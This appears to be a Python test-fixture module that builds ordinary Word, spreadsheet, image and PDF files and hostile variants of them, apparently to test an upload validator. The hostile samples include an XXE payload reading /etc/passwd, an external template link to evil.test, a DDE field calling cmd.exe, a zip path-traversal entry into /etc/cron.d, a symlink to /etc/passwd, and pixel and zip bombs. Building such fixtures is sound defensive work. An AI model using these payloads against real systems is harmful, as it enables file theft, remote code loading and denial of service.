"""Files for the tests: honest ones, and hostile ones made from them."""

import struct
import zipfile
import zlib
from io import BytesIO

import docx
import openpyxl
from PIL import Image

DTD = b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;">]><d>&b;</d>'
XXE = b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d>&x;</d>'
REMOTE = (
    b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"'
    b' Target="https://evil.test/t.dotm" TargetMode="External"/></Relationships>'
)
FIELD = (
    b'<?xml version="1.0"?><w:p xmlns:w="w"><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE'
    b"</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\cmd.exe</w:instrText></w:r></w:p>"
)


def word() -> bytes:
    out = BytesIO()
    document = docx.Document()
    document.add_paragraph("支援の記録")
    document.save(out)
    return out.getvalue()


def sheet() -> bytes:
    out = BytesIO()
    book = openpyxl.Workbook()
    book.active.append(["氏名", "所属"])
    for number in range(500):
        book.active.append([f"大西 {number}", "地域包括支援センター"])
    book.save(out)
    return out.getvalue()


def picture(kind: str = "PNG", **options) -> bytes:
    out = BytesIO()
    Image.new("RGB", (40, 30), (200, 10, 90)).save(out, kind, **options)
    return out.getvalue()


def located() -> bytes:
    """A photograph that says where it was taken, and lies on its side."""
    exif = Image.Exif()
    exif[0x0112] = 6
    exif[0x010F] = "CameraOfSomebody"
    return picture("JPEG", exif=exif, comment=b"35.0N 135.0E")


def animation() -> bytes:
    out = BytesIO()
    frames = [Image.new("RGB", (5, 5), (each, 0, 0)) for each in (0, 90, 180)]
    frames[0].save(out, "WEBP", save_all=True, append_images=frames[1:])
    return out.getvalue()


def pixel_bomb() -> bytes:
    """A PNG of a few bytes that claims 60,000 × 60,000 pixels."""
    head = struct.pack(">IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0)
    chunk = b"IHDR" + head
    return b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + chunk + struct.pack(">I", zlib.crc32(chunk)) + picture()[33:]


def pdf(*objects: bytes) -> bytes:
    """A PDF with these objects after its first one, and a table that names them all."""
    words, places = b"%PDF-1.7\n", []
    for number, each in enumerate((b"<</Type /Catalog /Pages 2 0 R>>", *objects), 1):
        places.append(len(words))
        words += b"%d 0 obj %s endobj\n" % (number, each)
    table = b"xref\n0 %d\n0000000000 65535 f \n" % (len(places) + 1)
    table += b"".join(b"%010d 00000 n \n" % place for place in places)
    end = b"trailer <</Root 1 0 R /Size %d>>\nstartxref\n%d\n%%%%EOF\n" % (len(places) + 1, len(words))
    return words + table + end


def packed_object(
    words: bytes, type_: bytes = b"/Type /ObjStm", filters: bytes = b"/FlateDecode", more: bytes = b""
) -> bytes:
    """Objects packed in a stream; ``filters`` says how, ``more`` stands before the stream."""
    stream = zlib.compress(words)
    if b"ASCIIHexDecode" in filters:
        stream = stream.hex().encode() + b">"
    return b"<<%s /N 1 /First 4 /Filter %s /Length %d %s>> stream\n%s\nendstream" % (
        type_,
        filters,
        len(stream),
        more,
        stream,
    )


def striped_object(words: bytes) -> bytes:
    """Objects packed row by row, each row with a mark before it (a predictor): no name stands there whole."""
    rows = b"".join(b"\0" + words[at : at + 4].ljust(4) for at in range(0, len(words), 4))
    stream = zlib.compress(rows)
    return (
        b"<</Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /DecodeParms <</Predictor 12 /Columns 4>> /Length %d>>"
        b" stream\n%s\nendstream" % (len(stream), stream)
    )


def printed_pdf(pictures: int = 1) -> bytes:
    """A PDF as a scanner or a printing program makes it, from noise that holds every short word by chance."""
    import random

    out = BytesIO()
    noise = random.Random(7).randbytes(900 * 900 * 3)
    page = Image.frombytes("RGB", (900, 900), noise)
    page.save(out, "PDF", save_all=True, append_images=[page] * (pictures - 1), quality=95)
    return out.getvalue()


def written_pdf() -> bytes:
    """A PDF whose objects are packed, as office programs write them."""
    from pypdf import PdfReader, PdfWriter

    out = BytesIO()
    book = PdfWriter(clone_from=PdfReader(BytesIO(printed_pdf())))
    book.add_outline_item(title="一ページ", page_number=0)
    book.write(out)
    return out.getvalue()


def changed(content: bytes, add: dict[str, bytes] | None = None, **replaced: tuple[bytes, bytes]) -> bytes:
    """The same package with more parts, or with bytes of ``[Content_Types].xml`` replaced."""
    out = BytesIO()
    with zipfile.ZipFile(BytesIO(content)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for entry in old.infolist():
            part = old.read(entry)
            if entry.filename == "[Content_Types].xml" and "types" in replaced:
                part = part.replace(*replaced["types"])
            new.writestr(entry.filename, part)
        for name, part in (add or {}).items():
            new.writestr(name, part)
    return out.getvalue()


def package(parts: dict[str, bytes]) -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name, part in parts.items():
            new.writestr(name, part)
    return out.getvalue()


def liar() -> bytes:
    """A package whose list says 10 bytes where 150 MB come out."""
    honest = changed(word(), {"word/media/image1.png": b"\0" * 150 * 1024 * 1024})
    real, small = struct.pack("<I", 150 * 1024 * 1024), struct.pack("<I", 10)
    return honest.replace(real, small)


def locked() -> bytes:
    """A package whose entries carry the flag of a password."""
    content = bytearray(word())
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = content.find(mark)
        while at >= 0:
            content[at + offset] |= 1
            at = content.find(mark, at + 4)
    return bytes(content)


def linked() -> bytes:
    """A package with a symbolic link."""
    out = BytesIO(word())
    with zipfile.ZipFile(out, "a") as book:
        entry = zipfile.ZipInfo("word/media/image9.png")
        entry.create_system = 3
        entry.external_attr = 0o120777 << 16
        book.writestr(entry, "/etc/passwd")
    return out.getvalue()


def climbing() -> bytes:
    return changed(word(), {"../../etc/cron.d/x": b"* * * * *"})


def twice() -> bytes:
    """Two entries of one name: each program reads another one."""
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        return changed(word(), {"word/document.xml": b"<x/>"})
